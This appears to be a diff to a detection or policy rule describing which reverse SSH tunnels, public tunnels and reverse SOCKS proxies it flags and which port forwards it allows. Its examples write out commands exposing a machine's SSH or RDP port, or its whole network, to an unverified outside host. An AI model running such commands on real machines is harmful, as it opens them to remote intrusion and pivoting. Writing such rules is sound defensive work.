@@ -7,7 +7,9 @@ What it catches
     -N -R 0.0.0.0:2222:127.0.0.1:22 relay@203.0.113.9`, `autossh -M 0 -R`, `plink.exe -R
     0.0.0.0:3389:127.0.0.1:3389`, `chisel client HOST R:2222:127.0.0.1:22`, whose reverse
     remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
-    22`). A reverse SOCKS proxy, which opens the whole network behind the machine to the far
+    22`); also on any address (the far host's loopback too) of a public host named only by
+    its number whose key is left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
+    2222:localhost:22 tunnel@203.0.113.45`): a relay nobody vouches for. A reverse SOCKS proxy, which opens the whole network behind the machine to the far
     host: chisel's reverse `R:socks` remote, SSH's reverse dynamic forward (`ssh -R 1080
     relay`), revsocks. As an agent action this is refused outright; in a response it is one
     piece, weighed with the request. Code that builds the pivot itself is whole in a response
@@ -29,7 +31,8 @@ Allowed instead
     a development web server through a reverse forward or tunnel (`ssh -R 8080:localhost:3000
     demo@tunnel.example.com`, `ngrok http 3000`), a jump host (`ssh -J bastion app01`), a
     reverse forward of one's own SSH to one's own server's loopback (`autossh -R
-    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there), a
+    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there; its
+    key known or accepted once, `StrictHostKeyChecking=accept-new`), a
     SOCKS proxy of one's own to reach a network through a bastion (`ssh -D 1080 bastion`,
     chisel's forward `1080:socks`), a development tunnel client that dials out and serves its
     own local web app over the multiplexer.
